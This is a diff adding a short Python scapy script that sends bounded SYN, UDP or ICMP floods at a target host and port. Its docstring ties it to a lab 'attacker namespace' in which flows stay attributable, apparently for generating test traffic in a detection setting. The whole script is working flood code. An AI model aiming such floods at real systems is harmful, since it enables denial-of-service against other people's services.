@@ -1,0 +1,29 @@
+#!/usr/bin/python3
+"""Bounded floods with scapy (the holdout profile's alternative to hping3).
+
+  flood.py syn|udp|icmp TARGET PORT COUNT INTERVAL_S
+Sources stay the attacker namespace's own address so every flow is attributable.
+"""
+import sys
+
+from scapy.all import ICMP, IP, TCP, UDP, RandShort, Raw, conf, send
+
+conf.verb = 0
+
+
+def main():
+    kind, target, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
+    count, interval = int(sys.argv[4]), float(sys.argv[5])
+    if kind == 'syn':
+        pkt = IP(dst=target) / TCP(sport=RandShort(), dport=port, flags='S', window=1024)
+    elif kind == 'udp':
+        pkt = IP(dst=target) / UDP(sport=RandShort(), dport=port) / Raw(b'\x00' * 120)
+    elif kind == 'icmp':
+        pkt = IP(dst=target) / ICMP(id=RandShort()) / Raw(b'X' * 256)
+    else:
+        raise SystemExit('unknown flood kind: ' + kind)
+    send(pkt, count=count, inter=interval)
+
+
+if __name__ == '__main__':
+    main()
